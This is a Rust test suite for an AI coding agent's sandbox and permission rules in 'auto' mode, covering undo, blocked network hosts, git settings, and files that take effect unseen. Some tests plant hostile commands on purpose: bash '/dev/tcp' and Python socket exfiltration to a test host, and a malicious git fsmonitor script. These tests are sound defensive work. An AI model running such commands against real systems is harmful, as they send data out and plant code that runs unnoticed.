//! `auto`: what the jail holds and undo takes back runs unasked, also where nobody can be asked; everything else is denied there.

use std::fs;
use std::process::Command;

use buddy_protocol::{Content, Fact};
use buddy_testkit::model::{ModelServer, Turn, turn};
use buddy_testkit::program::Program;
use serde_json::{Value, json};

use crate::stage::{Stage, done, run, shell};

/// Runs the turns of a stage in `auto`, with nobody to ask, and gives the results of the calls.
async fn results(stage: &Stage) -> Vec<Value> {
    stage.buddy(["exec", "--trust", "--permission-mode", "auto", "go"]).run().await;
    stage.results()
}

/// A stage with a host on this machine, which the configuration may name.
struct Scene {
    stage: Stage,
    host: ModelServer,
}

impl Scene {
    async fn new(is_named: bool, turns: impl FnOnce(&str) -> Vec<Turn>) -> Self {
        let host = ModelServer::start([turn().text("x")]).await;
        let mut stage = Stage::apart(Vec::new()).await;
        stage.server = ModelServer::start(turns(&host.url())).await;
        if is_named {
            let authority = host.url().trim_start_matches("http://").to_owned();
            let configuration = stage.home.path().join(".config/buddy");
            fs::create_dir_all(&configuration).unwrap();
            let text = format!("[web]\nallowed_hosts = [\"{authority}\"]\n");
            fs::write(configuration.join("buddy.toml"), text).unwrap();
        }
        Self { stage, host }
    }
}

#[tokio::test]
async fn what_stays_in_the_workspace_runs_unasked() {
    let turns = vec![
        run("printf 'all:\n\ttouch made\n' > Makefile && make"),
        run("mkdir -p target/a && rm -rf target"),
        run("for f in *; do echo $f; done"),
        run("python3 -c 'open(\"by-python\", \"w\")'"),
        done(),
    ];
    let stage = Stage::new(turns).await;
    let results = results(&stage).await;
    let work = stage.home.work();
    assert!(work.join("made").exists() && work.join("by-python").exists(), "{results:#?}");
    assert!(!work.join("target").exists());
}

#[tokio::test]
async fn a_file_that_was_moved_to_quarantine_is_named_on_every_face() {
    let turns = || vec![run("sh plant.sh"), done()];
    let planting = |stage: &Stage| {
        fs::create_dir(stage.home.work().join("sub")).unwrap();
        fs::write(stage.home.work().join("plant.sh"), "echo 'export A=1' > sub/.envrc; echo planted\n")
            .unwrap();
    };
    let is_told = |text: &str| text.contains("jail: buddy moved `") && text.contains("sub/.envrc` to `");

    let stage = Stage::apart(turns()).await;
    planting(&stage);
    let arguments = ["exec", "--trust", "--permission-mode", "auto", "go"];
    let finished = stage.buddy(arguments).run().await.expect_code(0);
    assert!(!stage.home.work().join("sub/.envrc").exists());
    assert!(is_told(&finished.stderr), "{finished}");
    let shown = stage.buddy(["show", "--last"]).run().await.expect_code(0).text();
    assert!(is_told(&shown), "{shown}");

    let stage = Stage::apart(turns()).await;
    planting(&stage);
    let mut started = stage.buddy(["--trust", "--permission-mode", "auto"]).converse();
    started.write(b"go\n").await;
    started.stdout.wait_for("So be it.", 1).await;
    let finished = started.finish().await.expect_code(0);
    assert!(is_told(&finished.stderr), "{finished}");
}

#[tokio::test]
async fn repositories_in_the_workspace_are_removed_whole() {
    let made = "git init -q -b main . && git config user.name a && git config user.email a@b && git commit -q --allow-empty -m i
git init -q vendor/two && git worktree add -q tree && git worktree add -q old";
    let turns = vec![run("rm -rf vendor"), run("git worktree remove tree"), run("echo x > f"), done()];
    let stage = Stage::apart(turns).await;
    let work = stage.home.work();
    let begun = Program::new("/bin/bash").args(["-c", made]).cwd(&work).env("HOME", &work).run().await;
    begun.expect_code(0);
    let results = results(&stage).await;
    for result in &results {
        let result = &result["result"];
        assert_eq!((&result["exit_code"], result.get("note")), (&json!(0), None), "{results:#?}");
    }
    for gone in ["vendor", "tree", ".git/worktrees/tree"] {
        assert!(!work.join(gone).exists(), "{gone}: {results:#?}");
    }
    assert!(work.join(".git/worktrees/old").exists());
    stage.buddy(["undo", "--yes", "--all"]).run().await.expect_code(0);
    stage.buddy(["undo", "--yes", "--all"]).run().await.expect_code(0);
    stage.buddy(["undo", "--yes", "--all"]).run().await.expect_code(0);
    assert!(work.join("vendor/two/.git/config").exists() && work.join("tree/.git").exists());
}

#[tokio::test]
#[expect(clippy::disallowed_methods, reason = "this is git as the user runs it")]
async fn harmless_settings_of_git_are_changed_unasked_and_others_after_a_question() {
    let unasked = [
        "git remote add up https://b.example/x.git",
        "git config user.name 'A B' && git config user.email a@example.org",
        "git init -q sub && git -C sub config user.email a@example.org",
        "git commit -q --allow-empty -m one && git branch side && git worktree add -q tree side",
    ];
    let asked = "git config core.pager cat";
    let turns = unasked.iter().map(|command| run(command)).chain([run(asked), done()]);
    let stage = Stage::apart(turns.collect::<Vec<_>>()).await;
    let work = stage.home.work();
    let made = Command::new("git").args(["init", "-q"]).current_dir(&work).status().unwrap();
    assert!(made.success());
    let mut started = stage.buddy(["--trust", "--permission-mode", "auto"]).converse();
    started.write(b"go\n").await;
    started.stderr.wait_for("core.pager cat -- approve?", 1).await;
    started.write(b"y\n").await;
    started.stdout.wait_for("So be it.", 1).await;
    let finished = started.finish().await.expect_code(0);
    let settings = fs::read_to_string(work.join(".git/config")).unwrap();
    for expected in ["https://b.example/x.git", "name = A B", "pager = cat"] {
        assert!(settings.contains(expected), "{settings} {:#?} {finished}", stage.results());
    }
    assert!(work.join("tree/.git").is_file() && work.join("sub/.git/config").is_file());
}

#[tokio::test]
async fn it_is_the_policy_of_a_trusted_folder_and_of_no_other() {
    for is_trusted in [true, false] {
        let stage = Stage::apart(vec![run("touch made"), done()]).await;
        let trust: &[&str] = if is_trusted { &["--trust"] } else { &[] };
        let finished = stage.usual(["exec", "go"]).args(trust).run().await;
        let results = stage.results();
        assert_eq!(stage.home.work().join("made").exists(), is_trusted, "{finished} {results:#?}");
        assert_eq!(results[0]["ok"], is_trusted, "{results:#?}");
    }
}

#[tokio::test]
async fn what_leaves_the_workspace_is_denied_where_nobody_can_be_asked() {
    let commands = ["touch ../outside", "sudo true", "echo x > .git/hooks/pre-commit", "echo x > .envrc"];
    let turns = commands.iter().map(|command| run(command)).chain([done()]);
    let stage = Stage::apart(turns.collect::<Vec<_>>()).await;
    fs::create_dir_all(stage.home.work().join(".git/hooks")).unwrap();
    let results = results(&stage).await;
    for (command, result) in commands.iter().zip(&results) {
        let is_asked = matches!(*command, "echo x > .envrc" | "touch ../outside");
        let code = if is_asked { "approval_needed" } else { "forbidden" };
        assert_eq!(result["error"]["code"], code, "{command}: {result:#}");
    }
    let work = stage.home.work();
    for path in [work.join("../outside"), work.join(".git/hooks/pre-commit"), work.join(".envrc")] {
        assert!(!path.exists(), "{}", path.display());
    }
}

#[tokio::test]
async fn a_host_that_nobody_allowed_sees_no_connection() {
    let scene = Scene::new(false, |url| {
        let (host, port) = url.trim_start_matches("http://").split_once(':').unwrap();
        let python = format!(
            "python3 -c 'import socket; socket.create_connection((\"{host}\", {port}), 5).send(b\"x\")' || echo tried"
        );
        let tcp = format!("bash -c 'echo x > /dev/tcp/{host}/{port}' || echo tried");
        vec![turn().call("run_shell", shell(&python)), turn().call("run_shell", shell(&tcp)), done()]
    })
    .await;
    for result in results(&scene.stage).await {
        assert_eq!(result["result"]["stdout"], "tried\n", "the command ran: {result:#}");
    }
    assert_eq!(scene.host.connections(), 0);
}

#[tokio::test]
async fn a_command_reaches_hosts_by_the_broker_and_its_result_says_which() {
    for is_named in [true, false] {
        // A command's own loopback is not reached by the broker unless it wants that.
        let script = "import os, sys, urllib.request\n\
             os.environ['no_proxy'] = os.environ['NO_PROXY'] = ''\n\
             print(urllib.request.urlopen(sys.argv[1], timeout=20).status)\n";
        let scene =
            Scene::new(is_named, |url| vec![run(&format!("python3 reach.py {url}/ || true")), done()]).await;
        fs::write(scene.stage.home.work().join("reach.py"), script).unwrap();
        let results = results(&scene.stage).await;
        let result = &results[0];
        let row = &result["result"]["connections"][0];
        let expected = if is_named { ("made", 1) } else { ("refused", 0) };
        assert_eq!(
            (row["outcome"].as_str().unwrap_or_default(), scene.host.connections()),
            expected,
            "{result:#}"
        );
        assert_eq!(row["host"], "127.0.0.1", "{result:#}");
        assert_eq!(row["received"].as_u64().unwrap() > 0, is_named, "{result:#}");
    }
}

#[tokio::test]
async fn reading_runs_unasked_and_what_a_repository_makes_git_run_is_held_to_reading() {
    for arguments in [&["--approve", "none"][..], &["--plan"]] {
        let host = ModelServer::start([turn().text("x")]).await;
        let address = host.url().trim_start_matches("http://").replace(':', "/");
        let turns = vec![
            run("git status --short; git log --oneline; git --version; cat *.md; ls | xargs wc -c"),
            run("for f in *.md; do echo \"- $f\"; done; awk '{print $1}' notes.md; python3 -V"),
            done(),
        ];
        let stage = Stage::apart(turns).await;
        let work = stage.home.work();
        let evil = format!(
            "#!/bin/bash\ntouch {0}/ran /tmp/ran-$$ {0}/../ran; echo x > /dev/tcp/{address}; exit 1\n",
            work.display()
        );
        fs::write(work.join("evil"), evil).unwrap();
        fs::write(work.join("notes.md"), "hello\n").unwrap();
        let repository = "git init -q && chmod +x evil && git config core.fsmonitor \"$PWD/evil\"";
        stage.in_bash(repository).run().await.expect_code(0);
        stage.usual(["exec", "--trust", "go"]).args(arguments).run().await.expect_code(0);
        let results = stage.results();
        for result in &results {
            assert_eq!(result["ok"], true, "{result:#}");
        }
        let printed =
            |place: usize| results[place]["result"]["stdout"].as_str().unwrap_or_default().to_owned();
        assert!(printed(0).contains("hello") && printed(0).contains("?? notes.md"), "{results:#?}");
        assert!(printed(1).contains("- notes.md\nhello\nPython 3"), "{results:#?}");
        assert!(!work.join("ran").exists() && !work.join("../ran").exists());
        assert_eq!(host.connections(), 0);
    }
}

#[tokio::test]
async fn advice_that_is_missing_or_makes_no_sense_fails_no_call() {
    let turns = vec![
        turn().call("run_shell", json!({"command": "touch one"})),
        turn().call("run_shell", json!({"command": "touch two", "why": 1, "risk": "tiny", "mutation": "?"})),
        done(),
    ];
    let stage = Stage::new(turns).await;
    stage.usual(["exec", "--trust", "go"]).run().await.expect_code(0);
    assert!(stage.home.work().join("one").exists() && stage.home.work().join("two").exists());
}

#[tokio::test]
async fn a_removal_that_undo_does_not_bring_back_is_denied_where_nobody_can_be_asked() {
    let turns = vec![
        run("rm -rf data"),
        turn().call("delete_path", json!({"path": "big"})),
        run("rm -rf target src"),
        turn().call("delete_path", json!({"path": "data", "recursive": true})),
        done(),
    ];
    let stage = Stage::new(turns).await;
    let work = stage.home.work();
    for directory in [".git", "data", "target/debug", "src"] {
        fs::create_dir_all(work.join(directory)).unwrap();
        fs::write(work.join(directory).join("file"), "x").unwrap();
    }
    fs::write(work.join(".gitignore"), "data\ntarget\n").unwrap();
    fs::write(work.join("big"), vec![0; 17 * 1024 * 1024]).unwrap();
    stage.usual(["exec", "--trust", "go"]).run().await;
    let results = stage.results();
    for place in [0, 1] {
        assert_eq!(results[place]["error"]["code"], "approval_needed", "{results:#?}");
    }
    assert!(work.join("big").exists() && !work.join("target").exists() && !work.join("src").exists());
    assert!(!work.join("data").exists(), "a tool keeps what it removes: {results:#?}");
    stage.buddy(["undo", "--yes"]).run().await.expect_code(0);
    assert_eq!(fs::read_to_string(work.join("data/file")).unwrap(), "x");
}

#[tokio::test]
async fn a_process_that_runs_on_is_asked_for() {
    let arguments =
        json!({"command": "sleep 1000", "why": "x", "risk": "low", "mutation": true, "privesc": false});
    let mut turns = vec![turn().call("process_start", arguments.clone())];
    for wait in [json!(false), json!(0), json!("0s")] {
        let mut background = arguments.clone();
        background["wait"] = wait;
        turns.push(turn().call("run_shell", background));
    }
    turns.push(done());
    let stage = Stage::new(turns).await;
    stage.usual(["exec", "--trust", "go"]).run().await;
    let results = stage.results();
    assert_eq!(results.len(), 4);
    for result in results {
        assert_eq!(result["error"]["code"], "approval_needed", "{result:#}");
    }
}

#[tokio::test]
async fn a_session_that_was_told_to_ask_goes_on_asking() {
    let stage =
        Stage::new(vec![turn().text("hello"), run("touch one"), done(), run("touch two"), done()]).await;
    stage.buddy(["trust"]).run().await.expect_code(0);
    stage.usual([]).input("hi\n/approve ask\n").run().await;
    stage.usual(["exec", "--last", "go"]).run().await;
    assert!(!stage.home.work().join("one").exists());
    stage.usual(["exec", "--last", "--permission-mode", "auto", "go"]).run().await;
    assert!(stage.home.work().join("two").exists(), "the command line says otherwise");
}

#[tokio::test]
#[expect(clippy::disallowed_methods, reason = "this is git as the user runs it")]
async fn git_throws_away_what_undo_brings_back_and_asks_about_the_rest() {
    let commands = ["git reset -q --hard", "git clean -qfd", "git stash drop"];
    let turns = commands.iter().map(|command| run(command)).chain([done()]);
    let stage = Stage::apart(turns.collect::<Vec<_>>()).await;
    let work = stage.home.work();
    let git = |words: &[&str]| {
        let names = ["-c", "user.name=a", "-c", "user.email=a@example.org"];
        assert!(Command::new("git").args(names).args(words).current_dir(&work).status().unwrap().success());
    };
    git(&["init", "-q"]);
    fs::write(work.join("a.txt"), "one\n").unwrap();
    git(&["add", "."]);
    git(&["commit", "-qm", "first"]);
    fs::write(work.join("a.txt"), "two\n").unwrap();
    fs::create_dir(work.join("new")).unwrap();
    fs::write(work.join("new/b.txt"), "b\n").unwrap();
    let results = results(&stage).await;
    assert_eq!((&results[0]["ok"], &results[1]["ok"]), (&json!(true), &json!(true)), "{results:#?}");
    assert_eq!(fs::read_to_string(work.join("a.txt")).unwrap(), "one\n");
    assert!(!work.join("new").exists());
    assert_eq!(results[2]["error"]["code"], "approval_needed", "{results:#?}");
    for _ in 0..2 {
        stage.buddy(["undo", "--yes"]).run().await.expect_code(0);
    }
    assert_eq!(fs::read_to_string(work.join("a.txt")).unwrap(), "two\n");
    assert_eq!(fs::read_to_string(work.join("new/b.txt")).unwrap(), "b\n");
}

#[tokio::test]
#[expect(clippy::disallowed_methods, reason = "this is git as the user runs it")]
async fn git_asks_before_it_throws_away_what_undo_does_not_keep() {
    let commands = ["git reset -q --hard", "git checkout -- big.bin", "git checkout -- a.txt"];
    let turns = commands.iter().map(|command| run(command)).chain([done()]);
    let stage = Stage::apart(turns.collect::<Vec<_>>()).await;
    let work = stage.home.work();
    assert!(Command::new("git").args(["init", "-q"]).current_dir(&work).status().unwrap().success());
    fs::write(work.join("a.txt"), "one\n").unwrap();
    fs::File::create(work.join("big.bin")).unwrap().set_len(17 * 1024 * 1024).unwrap();
    let results = results(&stage).await;
    for result in &results[..2] {
        assert_eq!(result["error"]["code"], "approval_needed", "{results:#?}");
    }
    assert_ne!(results[2]["error"]["code"], "approval_needed", "{results:#?}");
}

/// Files that take effect where nobody looks.
const UNSEEN: &[&str] =
    &[".github/workflows/ci.yml", ".lintstagedrc.js", ".yarn/releases/yarn.cjs", "AGENTS.md", "bunfig.toml"];

/// A stage with these files, and a script that changes them.
async fn unseen(turns: impl FnOnce(&str) -> Vec<Turn>) -> Stage {
    let mut stage = Stage::apart(Vec::new()).await;
    for name in UNSEEN.iter().chain(&["Makefile"]) {
        let path = stage.home.work().join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, "ok\n").unwrap();
    }
    let names = UNSEEN.join(" ");
    let script = format!("for f in {names} Makefile src.txt; do echo changed > $f; done\n");
    fs::write(stage.home.work().join("s.sh"), script).unwrap();
    stage.server = ModelServer::start(turns("bash s.sh")).await;
    stage
}

#[tokio::test]
async fn files_that_take_effect_unseen_are_told_once_a_script_changed_them() {
    let stage = unseen(|script| vec![run(script), run("bash s.sh; true"), done()]).await;
    let finished =
        stage.buddy(["exec", "--trust", "--permission-mode", "auto", "go"]).run().await.expect_code(0);
    let results = stage.results();
    let told =
        results[0]["result"]["unseen_files_changed"].as_str().unwrap_or_else(|| panic!("{:#?}", results[0]));
    for name in UNSEEN {
        assert!(told.contains(&format!("`{name}`")), "{name}: {told}");
    }
    assert!(told.contains("buddy undo") && !told.contains("Makefile") && !told.contains("src.txt"), "{told}");
    assert!(results[1]["result"].get("unseen_files_changed").is_none(), "nothing changed: {:#?}", results[1]);
    let notices: Vec<_> = stage
        .only_log()
        .await
        .events
        .iter()
        .filter_map(|event| match &event.fact {
            Fact::Notice(notice) if notice.code == "unseen_files_changed" => Some(notice.text.clone()),
            _ => None,
        })
        .collect();
    assert_eq!(notices, [told]);
    let log = stage.only_log().await;
    let place =
        |wanted: &dyn Fn(&Fact) -> bool| log.events.iter().position(|event| wanted(&event.fact)).unwrap();
    let row = place(
        &|fact| matches!(fact, Fact::ItemEnded(ended) if matches!(ended.item.content, Content::ToolCall(_))),
    );
    let notice = place(&|fact| matches!(fact, Fact::Notice(notice) if notice.code == "unseen_files_changed"));
    assert!(row < notice, "the notice stands below the row of its call");
    assert!(finished.stderr.contains("AGENTS.md"), "{finished}");
    stage.buddy(["undo", "--yes"]).run().await.expect_code(0);
    for name in UNSEEN {
        assert_eq!(fs::read_to_string(stage.home.work().join(name)).unwrap(), "ok\n", "{name}");
    }
}
